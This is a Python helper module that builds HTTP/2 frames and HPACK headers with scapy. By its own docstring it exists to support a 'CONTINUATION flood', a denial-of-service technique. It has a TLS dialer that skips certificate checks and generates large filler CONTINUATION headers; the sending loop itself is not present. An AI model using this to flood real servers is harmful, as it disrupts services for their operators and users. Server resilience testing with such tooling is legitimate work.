"""
HTTP/2 framing and HPACK helpers built on scapy's contrib.http2 layers.

Only what the CONTINUATION flood needs: the client preface, SETTINGS,
HEADERS and CONTINUATION frame builders, literal (non indexed) HPACK header
fields, a TLS dialer negotiating "h2" and a blocking frame reader.
"""

import socket
import ssl

import scapy.contrib.http2 as h2


CLIENT_PREFACE = bytes.fromhex('505249202a20485454502f322e300d0a0d0a534d0d0a0d0a')
FRAME_HEADER_SIZE = 9
FILLER_SIZE = 1000

FRAME_TYPE_NAMES = {
    0: 'DATA',
    1: 'HEADERS',
    2: 'PRIORITY',
    3: 'RST_STREAM',
    4: 'SETTINGS',
    5: 'PUSH_PROMISE',
    6: 'PING',
    7: 'GOAWAY',
    8: 'WINDOW_UPDATE',
    9: 'CONTINUATION',
}

# Static table lookups only, never mutated.
_STATIC_TABLE = h2.HPackHdrTable()


def create_tls_context():
    ssl_context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ssl_context.check_hostname = False
    ssl_context.verify_mode = ssl.CERT_NONE
    ssl_context.set_alpn_protocols(['h2'])
    return ssl_context


def dial(host, port, timeout=None):
    """Open a TCP connection to host:port and wrap it in TLS with ALPN "h2"."""
    raw_socket = socket.create_connection((host, port), timeout=timeout)
    try:
        tls_socket = create_tls_context().wrap_socket(raw_socket, server_hostname=host)
    except OSError:
        raw_socket.close()
        raise
    tls_socket.settimeout(None)
    return tls_socket


def literal_header(name, value):
    """
    Literal header field without indexing (RFC 7541 6.2.2). Names present in
    the static table are referenced by index, anything else is sent as a
    literal string.
    """
    hdr_value = h2.HPackHdrString(data=h2.HPackLiteralString(value))
    index = _STATIC_TABLE.get_idx_by_name(name)
    if index is None:
        hdr_name = h2.HPackHdrString(data=h2.HPackLiteralString(name))
        return h2.HPackLitHdrFldWithoutIndexing(index=0, hdr_name=hdr_name, hdr_value=hdr_value)
    return h2.HPackLitHdrFldWithoutIndexing(index=index, hdr_value=hdr_value)


def request_headers(method, path, scheme, authority):
    return [
        literal_header(':method', method),
        literal_header(':path', path),
        literal_header(':scheme', scheme),
        literal_header(':authority', authority),
    ]


def continuation_headers(index):
    return [literal_header(':cont-header-#{}'.format(index), 'A' * FILLER_SIZE)]


def header_block_size(hdrs):
    return sum(len(bytes(hdr)) for hdr in hdrs)


def settings_frame():
    return h2.H2Frame() / h2.H2SettingsFrame()


def settings_ack_frame():
    return h2.H2Frame(flags={'A'}) / h2.H2SettingsFrame()


def headers_frame(stream_id, hdrs, end_headers=False, end_stream=False):
    flags = set()
    if end_stream:
        flags.add('ES')
    if end_headers:
        flags.add('EH')
    return h2.H2Frame(stream_id=stream_id, flags=flags) / h2.H2HeadersFrame(hdrs=hdrs)


def continuation_frame(stream_id, hdrs, end_headers=False):
    flags = {'EH'} if end_headers else set()
    return h2.H2Frame(stream_id=stream_id, flags=flags) / h2.H2ContinuationFrame(hdrs=hdrs)


def frame_type_name(frame):
    return FRAME_TYPE_NAMES.get(frame.type, 'UNKNOWN({})'.format(frame.type))


class FrameReader:
    """Reads whole HTTP/2 frames from a blocking socket."""

    def __init__(self, sock):
        self.sock = sock

    def _recv_exactly(self, size):
        data = b''
        while len(data) < size:
            chunk = self.sock.recv(size - len(data))
            if not chunk:
                if data:
                    raise ConnectionError('connection closed after {} of {} bytes'.format(len(data), size))
                return None
            data += chunk
        return data

    def read_raw_frame(self):
        """Return (header, payload) bytes, or None if the peer closed between frames."""
        header = self._recv_exactly(FRAME_HEADER_SIZE)
        if header is None:
            return None

        length = int.from_bytes(header[:3], 'big')
        payload = b''
        if length:
            payload = self._recv_exactly(length)
            if payload is None:
                raise ConnectionError('connection closed before a {} byte frame payload'.format(length))
        return header, payload

    def read_frame(self):
        raw_frame = self.read_raw_frame()
        if raw_frame is None:
            return None
        header, payload = raw_frame
        return h2.H2Frame(header + payload)
